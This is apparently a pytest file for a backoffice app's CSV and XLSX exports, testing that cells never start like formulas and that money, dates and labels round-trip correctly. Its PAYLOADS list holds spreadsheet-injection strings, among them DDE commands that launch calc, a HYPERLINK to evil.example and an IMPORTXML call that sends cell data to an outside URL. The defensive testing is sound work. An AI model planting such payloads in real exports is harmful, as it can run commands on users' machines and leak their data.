"""No cell of an export is a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from backoffice.admin import columns
from backoffice.resources.cells import for_csv, plain, safe_text
from backoffice.resources.files import csv_lines, write_xlsx

PAYLOADS = [
    "=1+1",
    "==1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "  +1",
    '"=1+1',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u202e=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "+1 (212) 555-0123",
    "-",
    "=",
]
RISKY = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("payload", PAYLOADS)
class TestText:
    def test_never_begins_like_a_formula_in_csv(self, payload: str) -> None:
        text = "".join(csv_lines(["Name"], [[payload]])).removeprefix("\ufeff")
        cell = list(csv.reader(StringIO(text, newline="")))[1][0]
        assert not cell.startswith(RISKY)
        assert "\x00" not in cell

    def test_is_a_string_in_a_spreadsheet(self, payload: str) -> None:
        stream = BytesIO()
        write_xlsx(stream, ["Name"], [[payload]])
        cell = load_workbook(stream).active["A2"]  # type: ignore[index]
        assert cell.data_type == "s"
        assert str(cell.value).startswith("'")


class TestPlain:
    def test_keeps_negative_numbers_as_numbers(self) -> None:
        assert for_csv(Decimal("-175.00")) == Decimal("-175.00")
        assert for_csv(-5) == -5

    def test_keeps_harmless_text(self) -> None:
        assert safe_text("Ada – 12 + 3") == "Ada – 12 + 3"

    @pytest.mark.parametrize(
        ("shown", "kept"),
        [
            (columns.money(-17_500, "USD"), Decimal("-175.00")),
            (columns.money(41_830_000, "INR"), Decimal("418300.00")),
            (columns.money(0, "USD"), Decimal("0.00")),
            (columns.badge("In transit", "moving"), "In transit"),
            (columns.badge("O’Neill & Sons"), "O’Neill & Sons"),
            (columns.when(None), ""),
            (columns.day(date(2027, 6, 19)), date(2027, 6, 19)),
            (
                columns.when(datetime(2026, 11, 21, 15, 30, tzinfo=UTC)),
                datetime(2026, 11, 21, 10, 30),  # noqa: DTZ001
            ),
            (("good", "Paid"), "Paid"),
            (True, "yes"),
            (None, None),
        ],
    )
    def test_reads_back_what_a_column_shows(self, shown: object, kept: object) -> None:
        assert plain(shown) == kept
